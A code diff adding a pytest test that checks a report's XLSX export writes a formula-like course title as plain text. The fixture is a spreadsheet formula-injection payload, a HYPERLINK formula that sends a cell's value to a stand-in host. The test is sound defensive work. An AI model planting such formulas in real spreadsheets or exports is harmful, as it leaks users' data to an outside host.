@@ -13,6 +13,7 @@ from openpyxl import load_workbook
 from rest_framework.utils.encoders import JSONEncoder
 
 from events.enums import OrganizationKind
+from events.models import Event
 from reports.indicators import DRILLABLE, Period, compute, drill
 
 pytestmark = pytest.mark.django_db
@@ -229,3 +230,19 @@ def test_xlsx_survives_a_control_character_stored_in_a_name(world, client, repor
         for value in row
     ]
     assert "Nguyễn Thị Lan" in cells
+
+
+def test_xlsx_writes_a_formula_like_course_title_as_text(world, client, report_viewer):
+    course = world.courses["C1"].event
+    title = '=HYPERLINK("http://x.example/?"&B2,"Xem")'
+    Event.objects.filter(pk=course.pk).update(title_vi=title)  # stored without the form's checks
+    client.force_login(report_viewer)
+
+    response = client.get(f"/reports/?{QUERY}&format=xlsx")
+
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.content))[vi("Courses held")]
+    rows = list(sheet.iter_rows(min_row=2))
+    title_cell = rows[0][0]
+    assert (title_cell.value, title_cell.data_type, title_cell.quotePrefix) == (title, "s", True)
+    assert [row[2].data_type for row in rows] == ["n"] * len(rows)  # sessions held: numbers
